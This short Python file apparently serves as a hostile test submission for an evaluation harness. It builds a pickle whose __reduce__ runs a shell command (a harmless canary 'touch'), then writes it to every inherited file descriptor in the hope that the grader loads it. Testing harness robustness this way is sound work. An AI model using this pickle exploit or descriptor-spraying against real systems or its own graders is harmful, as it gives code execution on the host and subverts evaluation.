"""Answer with a pickle that would run a command where it is loaded."""

import os
import pickle
import time


class Evil:
    def __reduce__(self):
        return os.system, ("touch /tmp/canary/pickled",)


def perturb(x, y, query):
    raw = pickle.dumps(Evil())
    print("tried")
    for fd in range(3, 64):
        try:
            os.write(fd, raw)
        except OSError:
            pass
    time.sleep(1)  # so that nothing follows it
    return x
